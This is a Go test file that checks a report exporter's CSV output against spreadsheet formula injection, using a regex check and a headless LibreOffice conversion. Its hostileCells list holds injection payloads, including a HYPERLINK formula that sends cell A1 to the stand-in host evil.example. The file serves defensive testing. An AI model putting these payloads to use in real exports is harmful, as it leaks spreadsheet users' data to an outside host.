package drills

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"relais/internal/profile"
	"relais/internal/testenv"
)

// hostileCells are texts a colleague's report could carry to run a
// formula in the ambassador's spreadsheet, whichever separator it splits
// on: at the start, after a ";" or a ",", after a line break, after a
// quote.
var hostileCells = []string{
	`x;=HYPERLINK("http://evil.example/?"&A1;"clic")`,
	`x,=HYPERLINK("http://evil.example/","clic")`,
	"=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1",
	"Ligne 1\n=1+1", "Ligne 1\r\n-1+1", "x, =1+1", `a,"=1+1"`, `a "b";=1+1`, `x;"";@A1`,
}

// hostileTable is a table of reports whose participant, drill title,
// skip reason, answer, note and feedback are hostile.
func hostileTable() Table {
	g := generateReports(len(hostileCells), 0)
	for i, h := range hostileCells {
		r := &g.finals[i]
		r.Participant, r.Feedback, r.DrillTitle = h, h, profile.Text{FR: h, EN: h}
		r.Steps[0].State, r.Steps[0].SkipReason = StepSkipped, h
		r.Steps[1].Evidence.Answer, r.Steps[1].Evidence.Note = h, h
	}
	return Summarize(g.finals)
}

// TestCSVNoFormulaWhateverSeparator reads the CSV as a spreadsheet might
// when it splits on ";" or on ",", even one that ignores the quotes (a
// spreadsheet splitting on "," does not see a quote after a ";" as
// opening a cell): no cell it could make starts with a formula.
func TestCSVNoFormulaWhateverSeparator(t *testing.T) {
	tab := hostileTable()
	for _, lang := range []string{"fr", "en"} {
		var buf bytes.Buffer
		if err := tab.WriteCSV(&buf, lang); err != nil {
			t.Fatal(err)
		}
		for _, sep := range []string{";", ","} {
			cells := strings.FieldsFunc(buf.String(), func(r rune) bool { return strings.ContainsRune(sep+"\r\n", r) })
			for _, c := range cells {
				if s := strings.TrimLeft(c, ` "`); s != "" && strings.ContainsRune("=+-@\t", rune(s[0])) {
					t.Errorf("%s, split on %q: the cell %q is a formula", lang, sep, c)
				}
			}
		}
	}
}

// A spreadsheet reading the hostile CSV with either separator, in French
// and in English, makes no formula: LibreOffice reads it into a workbook
// whose sheet has no formula in it.
func TestHostileCSVNoFormulaInLibreOffice(t *testing.T) {
	soffice := testenv.NeedTools(t, "soffice")[0]
	tab := hostileTable()
	formula := regexp.MustCompile(`<f[ >/]`)
	for _, tc := range []struct{ lang, locale, sep string }{
		{"fr", "1036", "59"}, {"fr", "1036", "44"}, {"en", "1033", "59"}, {"en", "1033", "44"},
	} {
		t.Run(tc.lang+"-"+tc.sep, func(t *testing.T) {
			dir := t.TempDir()
			in := filepath.Join(dir, "tableau.csv")
			var buf bytes.Buffer
			if err := tab.WriteCSV(&buf, tc.lang); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(in, buf.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+filepath.Join(dir, "lo"),
				"--infilter=CSV:"+tc.sep+",34,76,1,,"+tc.locale, "--convert-to", "xlsx", "--outdir", filepath.Join(dir, "x"), in)
			cmd.Dir, cmd.Env = dir, append(os.Environ(), "HOME="+dir)
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("soffice: %v\n%s", err, out)
			}
			zr, err := zip.OpenReader(filepath.Join(dir, "x", "tableau.xlsx"))
			if err != nil {
				t.Fatal(err)
			}
			defer zr.Close()
			sheets := 0
			for _, f := range zr.File {
				if !strings.HasPrefix(f.Name, "xl/worksheets/") || !strings.HasSuffix(f.Name, ".xml") {
					continue
				}
				sheets++
				rc, err := f.Open()
				if err != nil {
					t.Fatal(err)
				}
				b, err := io.ReadAll(rc)
				rc.Close()
				if err != nil {
					t.Fatal(err)
				}
				if m := formula.FindAllIndex(b, 3); m != nil {
					t.Errorf("%s: %d formula(s), the first: %s", f.Name, len(m), b[m[0][0]:min(len(b), m[0][0]+120)])
				}
			}
			if sheets == 0 {
				t.Fatal("no sheet in the workbook")
			}
		})
	}
}
